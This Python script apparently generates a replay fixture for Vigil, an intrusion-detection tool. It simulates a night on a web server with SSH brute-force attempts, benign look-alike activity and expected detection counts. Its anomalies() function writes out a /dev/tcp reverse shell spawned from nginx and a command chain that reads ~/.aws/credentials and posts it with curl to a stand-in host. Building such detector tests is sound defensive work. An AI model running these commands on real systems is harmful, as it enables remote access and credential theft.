"""Writes `night.jsonl`: "a night on a production server", the replay fixture of issues 4/5.

The night that motivated Vigil, in the same proportions, from 00:00 to 06:00 UTC on
web1 (nginx + a node app, a root deploy, certbot, a developer building code):

- 49 SSH password failures from 12 IPs within one minute, one IP with 23 — written as
  real sshd syslog lines and parsed by Vigil's own auth-log parser;
- 42 runs of `/bin/sh -c ip neigh show` by a network monitoring agent (a generic Sigma
  rule, "System Network Discovery", fires on each `ip neigh show`);
- benign sensitive-file look-alikes: the agent reading PAM config before sending an alert,
  a root deploy stopping and starting vigil, certbot renewing under /etc/letsencrypt/;
- compiler and npm build runs that look like exfiltration or web shells;
- cscli DNS lookups;
- two real anomalies: a reverse shell from nginx (04:10) and a credential read followed
  by an outbound connection (03:30).

Deterministic: run `python tests/night/make_night.py` to regenerate; the test checks the
committed file is what this script writes.
"""

from __future__ import annotations

import sys
from datetime import datetime, timezone
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[1] / "src"))
sys.path.insert(0, str(HERE.parent / "detectors"))

from detector_factories import (  # noqa: E402
    O_CREAT, O_TRUNC, O_WRONLY, connect, dup2, execve, init, login_shell, open_file, proc, sh_c,
    syscall,
)

from vigil.events.jsonl import encode_event  # noqa: E402
import msgspec  # noqa: E402

from vigil.events.model import Event, FdInfo  # noqa: E402
from vigil.sensors.authparse import parse_syslog_line  # noqa: E402

NIGHT = datetime(2026, 11, 26, 0, 0, 0, tzinfo=timezone.utc)
T0 = int(NIGHT.timestamp()) * 10**9
#: the pid of the Vigil agent that "recorded" this night (`vigil replay --agent-pid`)
AGENT_PID = 4242
HOST = "web1"
OUT = HERE / "night.jsonl"

#: 12 attacking IPs (documentation and public-scanner ranges); the first is the top one
ATTACKERS = ["185.220.101.47", "45.148.10.92", "193.32.162.77", "141.98.11.23",
             "218.92.0.112", "61.177.172.60", "103.145.13.4", "92.118.39.61",
             "80.94.95.115", "179.43.180.106", "5.181.80.120", "198.51.100.200"]
COUNTS = [23, 3, 3, 2, 2, 2, 2, 3, 3, 2, 2, 2]  # 49 in all
USERS = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user"]
#: how often each benign part of the night happens
N_NETMON = 42        # `sh -c ip neigh show` by the monitoring agent
N_AGENT_ALERTS = 4   # Vigil reads PAM config, then talks to Telegram
N_DEPLOYS = 2        # a root deploy stops and starts vigil
N_CERTBOT = 3        # certbot renewals
N_C_BUILDS = 6       # C builds reading a key fixture, then fetching a dependency
N_NPM_BUILDS = 12    # npm builds spawning a shell under node
N_CSCLI = 2          # cscli asking a public resolver


def at(seconds: float) -> int:
    """ns timestamp `seconds` after midnight."""
    return T0 + int(seconds * 1e9)


def ssh_failures() -> list[Event]:
    """49 failed passwords in 55 s from 02:13:00, as sshd logs them, parsed by Vigil."""
    attempts = [ip for ip, n in zip(ATTACKERS, COUNTS) for _ in range(n)]
    # interleave the top attacker with the others, as a real burst looks
    order = sorted(range(len(attempts)), key=lambda i: (i * 7919) % len(attempts))
    events = []
    for k, i in enumerate(order):
        ip = attempts[i]
        t = 2 * 3600 + 13 * 60 + k * 55 / len(order)
        when = datetime.fromtimestamp(T0 / 1e9 + t, tz=timezone.utc)
        user = USERS[(k * 3) % len(USERS)]
        invalid = "" if user in ("root", "ubuntu") else "invalid user "
        line = (f"{when:%b %d %H:%M:%S} {HOST} sshd[{31000 + k}]: Failed password for "
                f"{invalid}{user} from {ip} port {40000 + k * 13} ssh2")
        ev = parse_syslog_line(line, now=when.timestamp(), tz=timezone.utc)
        assert ev is not None and ev.args.get("src_ip") == ip, line
        ev.ts = at(t)  # sub-second precision the syslog format does not carry
        events.append(ev)
    return events


def noisy_network_discovery() -> list[Event]:
    """A monitoring agent runs `sh -c 'ip neigh show'` 42 times (every ~8.5 minutes)."""
    agent = proc("/usr/bin/python3", "/opt/netmon/agent.py", pid=700, uid=0, parent=init(),
                 name="python3")
    out = []
    for i in range(N_NETMON):
        t = 60 + i * 510
        sh = sh_c("ip neigh show", parent=agent, pid=20000 + 2 * i)
        ip = proc("/usr/sbin/ip", "neigh", "show", pid=20001 + 2 * i, parent=sh, name="ip")
        out += [execve(sh, ts=at(t)), execve(ip, ts=at(t + 0.01))]
    return out


def agent_reads_pam_then_alerts(n: int) -> list[Event]:
    """Vigil itself reads PAM config (auth context) and then talks to Telegram."""
    agent = proc("/usr/bin/python3", "/usr/local/bin/vigil", "run", pid=AGENT_PID,
                 parent=init(), name="vigil")
    out = []
    for i in range(n):
        t = 600 + i * 1800
        out += [open_file(agent, f"/etc/pam.d/{f}", ts=at(t + j * 0.01))
                for j, f in enumerate(["sshd", "common-auth"])]
        out.append(connect(agent, "149.154.167.220", 443, ts=at(t + 0.5)))
    return out


def deploy_restarts_vigil(n: int) -> list[Event]:
    """A root deploy stops and starts vigil; systemd sends the SIGTERM."""
    out = []
    for i in range(n):
        t = 1500 + i * 3000
        root = login_shell(pid=900 + 10 * i, uid=0, user="root")
        out.append(execve(proc("/usr/bin/systemctl", "stop", "vigil", pid=901 + 10 * i,
                               parent=root), ts=at(t)))
        out.append(syscall(init(), "kill", ts=at(t + 0.1), pid=AGENT_PID, sig=15))
        out.append(execve(proc("/usr/bin/systemctl", "start", "vigil", pid=902 + 10 * i,
                               parent=root), ts=at(t + 5)))
    return out


def certbot_renews(n: int) -> list[Event]:
    """certbot reads the old key, talks to the ACME server, writes the new one."""
    out = []
    for i in range(n):
        t = 10800 + i * 600
        certbot = proc("/usr/bin/python3", "/usr/bin/certbot", "renew", pid=3000 + i,
                       parent=init(), name="certbot")
        out += [open_file(certbot, f"/etc/letsencrypt/live/site{i}/privkey.pem", ts=at(t)),
                connect(certbot, "172.65.32.248", 443, ts=at(t + 1)),
                open_file(certbot, f"/etc/letsencrypt/archive/site{i}/privkey2.pem",
                          O_WRONLY | O_CREAT | O_TRUNC, ts=at(t + 2))]
    return out


def builds(n_c: int, n_npm: int) -> list[Event]:
    """A developer's C builds (read a key fixture, fetch a dependency) and npm builds."""
    out = []
    dev = login_shell(pid=5000, uid=1000, user="dev")
    for i in range(n_c):
        t = 14400 + i * 300
        make = proc("/usr/bin/make", pid=5100 + 10 * i, uid=1000, parent=dev)
        recipe = sh_c("cc -I/usr/include -L/usr/lib/gcc/ main.c && curl -sO https://deps.example/x",
                      parent=make, pid=5101 + 10 * i)
        cc = proc("/usr/bin/cc", "-I/usr/include", "-L/usr/lib/gcc/", "main.c",
                  pid=5102 + 10 * i, uid=1000, parent=recipe)
        curl = proc("/usr/bin/curl", "-sO", "https://deps.example/x", pid=5103 + 10 * i,
                    uid=1000, parent=recipe)
        out += [execve(recipe, ts=at(t)), execve(cc, ts=at(t + 0.1)),
                open_file(cc, "/home/dev/src/tests/tls/server.key", ts=at(t + 0.5)),
                connect(curl, "198.51.100.20", 443, ts=at(t + 1))]
    for i in range(n_npm):
        t = 16200 + i * 300
        npm = proc("/usr/bin/node", "/usr/bin/npm", "run", "build", pid=6000 + 10 * i,
                   uid=1000, parent=dev, name="node")
        out.append(execve(sh_c("react-scripts build", parent=npm, pid=6001 + 10 * i,
                               uid=1000), ts=at(t)))
    return out


def cscli_lookups(n: int) -> list[Event]:
    """CrowdSec's cscli asks a public resolver when it updates its hub."""
    out = []
    for i in range(n):
        root = proc("/usr/bin/bash", pid=7000 + 10 * i, parent=init())
        cscli = proc("/usr/bin/cscli", "hub", "update", pid=7001 + 10 * i, parent=root)
        out.append(connect(cscli, "1.1.1.1", 53, ts=at(18000 + i * 900), proto="udp"))
    return out


def anomalies() -> list[Event]:
    """The two real attacks of the night."""
    dev = login_shell(pid=8000, uid=1000, user="dev")
    script = proc("/usr/bin/bash", "/tmp/.s.sh", pid=8001, uid=1000, user="dev", parent=dev)
    cat = proc("/usr/bin/cat", "/home/dev/.aws/credentials", pid=8002, uid=1000, parent=script)
    curl = proc("/usr/bin/curl", "-d", "@-", "http://203.0.113.77/c", pid=8003, uid=1000,
                parent=script)
    nginx = proc("/usr/sbin/nginx", pid=100, uid=33, user="www-data", parent=init())
    rev = sh_c("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", parent=nginx, pid=9001, uid=33)
    onto_stdout = dup2(rev, 1, "203.0.113.66", ts=at(4 * 3600 + 10 * 60 + 0.1))
    onto_stdin = dup2(rev, 0, "203.0.113.66", ts=at(4 * 3600 + 10 * 60 + 0.1))
    # the process as the eBPF sensor records it after each dup: its standard fds as the
    # kernel describes them (stdout first, then stdin, on the one socket)
    sock = msgspec.structs.replace(onto_stdout.fd, lip="10.0.0.5", lport=40100,
                                   name="10.0.0.5:40100->203.0.113.66:4444")
    onto_stdout.fd = msgspec.structs.replace(sock, num=1)
    onto_stdin.fd = msgspec.structs.replace(sock, num=0)
    null = FdInfo(num=0, type="file", name="/dev/null")
    onto_stdout.proc = msgspec.structs.replace(rev, stdio=[
        null, msgspec.structs.replace(sock, num=1), msgspec.structs.replace(null, num=2)])
    onto_stdin.proc = msgspec.structs.replace(rev, stdio=[
        msgspec.structs.replace(sock, num=n) for n in (0, 1, 2)])
    return [open_file(cat, "/home/dev/.aws/credentials", ts=at(3 * 3600 + 30 * 60)),
            connect(curl, "203.0.113.77", 80, ts=at(3 * 3600 + 30 * 60 + 1)),
            execve(rev, ts=at(4 * 3600 + 10 * 60)), onto_stdout, onto_stdin]


def night() -> list[Event]:
    """Every event of the night, in time order."""
    events = (ssh_failures() + noisy_network_discovery()
              + agent_reads_pam_then_alerts(N_AGENT_ALERTS) + deploy_restarts_vigil(N_DEPLOYS)
              + certbot_renews(N_CERTBOT) + builds(N_C_BUILDS, N_NPM_BUILDS)
              + cscli_lookups(N_CSCLI) + anomalies())
    for e in events:
        e.hostname = HOST
    return sorted(events, key=lambda e: e.ts)


#: fates of a detection: an incident, or the layer that suppressed it
INCIDENT, STATIC, DYNAMIC = "incident", "static", "dynamic"


def expected_detections() -> dict[tuple[str, str], int]:
    """What the night must raise through vigil.toml, per (detection name, fate), from what
    each part of the night does: a change of the night changes these, and a change in
    Vigil that moves detections between categories cannot hide behind an unchanged total.
    Sigma detections are named by their rule's title."""
    return {
        # 49 password guesses: each one an attempt, all routed as the brute force
        ("ssh_bruteforce", INCIDENT): sum(COUNTS),
        # the generic Sigma rule on every `ip neigh show`, allowlisted in vigil.toml
        ("System Network Discovery - Linux", DYNAMIC): N_NETMON,
        # Vigil's own PAM read: a credential-file read then a connection, and a Sigma
        # discovery rule; both Vigil itself (static: self-activity)
        ("data_exfil", STATIC): N_AGENT_ALERTS + N_CERTBOT + N_C_BUILDS,
        ("Password Policy Discovery - Linux", STATIC): N_AGENT_ALERTS,
        # a root deploy stopping (systemctl, then the SIGTERM) and starting vigil
        ("service_tamper", STATIC): 2 * N_DEPLOYS,
        ("Disable Or Stop Services", STATIC): N_DEPLOYS,
        ("Service Reload or Start - Linux", STATIC): N_DEPLOYS,
        # certbot rewriting its private key (and reading one before talking to ACME,
        # counted with data_exfil above)
        ("sensitive_write", STATIC): N_CERTBOT,
        # npm builds, a shell under node: node accepted no connection, it is not serving,
        # so these are no web shell at all (not even audited)
        ("dns_direct", STATIC): N_CSCLI,
        # the credential theft: read, then curl out; from a hidden script (Sigma's auditd
        # "Use Of Hidden Paths Or Files" assumes the PATH records of executions, and cat
        # reads ~/.aws/credentials: docs/sigma.md)
        ("data_exfil", INCIDENT): 1,
        # the reverse shell from nginx: the shell, its command line, and the dup2 that puts
        # the socket on stdin too (a redirect of stdout alone is a port check for the
        # default rules)
        ("webshell", INCIDENT): 1,
        ("reverse_shell", INCIDENT): 1,
        ("Suspicious Reverse Shell Command Line", INCIDENT): 1,
        ("Suspicious Use of /dev/tcp", INCIDENT): 1,
        ("Shell spawned by a server program", INCIDENT): 1,
        ("Standard stream redirected to a network connection", INCIDENT): 1,
    }


def render() -> bytes:
    """The fixture file's bytes."""
    head = b"# a night on a production server: written by tests/night/make_night.py\n"
    return head + b"".join(encode_event(e) for e in night())


if __name__ == "__main__":
    OUT.write_bytes(render())
    print(f"wrote {OUT}")
